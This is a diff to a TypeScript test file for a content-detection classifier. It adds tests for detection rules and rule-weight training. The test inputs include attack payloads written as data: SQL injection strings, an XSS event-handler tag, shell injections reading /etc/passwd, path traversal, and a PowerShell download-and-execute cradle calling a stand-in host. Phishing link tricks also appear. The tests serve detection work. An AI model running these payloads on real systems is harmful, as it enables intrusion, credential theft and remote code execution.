@@ -183,8 +183,40 @@ describe("content features (what the graph's normaliser, char tokenizer and n-gr
 });
 
 describe("content rules", () => {
+  // code-character fires on most of these (any of < > ( ) ; = | & $ and the like): it has its own test.
   const fired = (text: string) =>
-    CONTENT_RULES.filter((_, r) => ruleFeatures(text.toLowerCase())[r] === 1).map((rule) => rule.name);
+    CONTENT_RULES.filter((_, r) => ruleFeatures(text.toLowerCase())[r] === 1)
+      .map((rule) => rule.name)
+      .filter((name) => name !== "code-character");
+  const codeCharacter = (text: string) =>
+    ruleFeatures(text.toLowerCase())[CONTENT_RULES.findIndex((rule) => rule.name === "code-character")];
+
+  test("code-character fires on the characters code and payloads need, not on plain words, dots, slashes or quotes", () => {
+    for (const text of [
+      "1=1",
+      "<b>",
+      "a;b",
+      "$x",
+      "`id`",
+      "{}",
+      "[x]",
+      "%27",
+      "a\\b",
+      "me@x.io",
+      "#1",
+      "f(x)",
+    ])
+      expect([text, codeCharacter(text)]).toEqual([text, 1]);
+    for (const text of [
+      "select your seat",
+      "O'Brien",
+      "a/b/c",
+      "www.example.com",
+      "I'll drop by at 5 -- ok?",
+      "",
+    ])
+      expect([text, codeCharacter(text)]).toEqual([text, 0]);
+  });
 
   test.each([
     ["1' or 1=1 --", ["sql-tautology", "sql-quote-comment"]],
@@ -194,9 +226,18 @@ describe("content rules", () => {
     ["<img src=x onerror=alert(1)>", ["html-tag", "html-event-handler", "js-sink"]],
     ["<a href=javascript:x>", ["html-tag", "script-url"]],
     ["a; cat /etc/passwd", ["shell-command", "sensitive-file", "system-path"]],
-    ["$(whoami)", ["shell-command", "shell-syntax"]],
+    ["$(whoami)", ["shell-command", "shell-syntax", "shell-separator-first"]],
     ["..%2f..%2fboot.ini", ["path-climb", "sensitive-file", "percent-encoded-special"]],
     ["php://filter/resource=x", ["file-wrapper"]],
+    ["| id", ["shell-command", "shell-separator-first"]],
+    ["IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", ["powershell"]],
+    ["hxxp://evil[.]example", ["link-trick"]],
+    ["https://paypal.com@10.0.0.1/login", ["link-trick"]],
+    ["go to bit.ly/x1", ["link-trick"]],
+    ["claim at prize.xyz now", ["abused-tld"]],
+    ["free iphone at https://x.example/win", ["link-with-lure"]],
+    ["1' -- -", ["sql-quote-comment"]],
+    ["admin'--", ["sql-quote-comment"]],
   ])("%s fires exactly %j", (text, names) => {
     expect(fired(text)).toEqual(names);
   });
@@ -208,7 +249,12 @@ describe("content rules", () => {
     "x < y and y > z",
     "O'Brien",
     "https://github.com",
-  ])("%s fires no rule", (text) => expect(fired(text)).toEqual([]));
+    // A dash or a hash after a digit or a quote is a SQL comment only when nothing like words follows.
+    "I'll drop by at 5 -- ok?",
+    "Order #12345",
+    "o'reilly@example.ie",
+    "Fish & Chips; tasty",
+  ])("%s fires no rule but perhaps code-character", (text) => expect(fired(text)).toEqual([]));
 
   test("every pattern compiles the same way in the graph's wrapper", () => {
     for (const rule of CONTENT_RULES) expect(fullMatchPattern(rule)).toBe(`(?s).*(?:${rule.pattern}).*`);
@@ -225,6 +271,9 @@ describe("content rules", () => {
       "$(id)",
       "",
       "select your seat",
+      "; ls",
+      "free stuff at www.x.example",
+      "I'll drop by at 5 -- ok?",
     ]) {
       const lower = text.toLowerCase();
       expect([text, any.test(lower)]).toEqual([text, ruleFeatures(lower).some((on) => on === 1)]);
@@ -262,6 +311,20 @@ describe("content softmax training", () => {
     for (const t of texts) expect([t.text, contentPredict(model, t.text).label]).toEqual([t.text, t.label]);
     expect(trainContentClassifier(texts, ["none", "sqli"], options).weights).toEqual(model.weights);
     expect(model.ngrams.length).toBeLessThanOrEqual(50);
+  });
+
+  test("a rule left out keeps weight 0 in every class; the others learn", () => {
+    const k = 2;
+    const model = trainContentClassifier(texts, ["none", "sqli"], {
+      ...options,
+      withoutRules: ["sql-quote-comment"],
+    });
+    const ruleWeights = (name: string) => {
+      const at = (model.ngrams.length + CONTENT_RULES.findIndex((rule) => rule.name === name)) * k;
+      return model.weights.slice(at, at + k);
+    };
+    expect(ruleWeights("sql-quote-comment")).toEqual([0, 0]);
+    expect(ruleWeights("sql-tautology").some((w) => w !== 0)).toBe(true);
   });
 
   test("the vocabulary keeps the n-grams whose class frequencies differ most", () => {
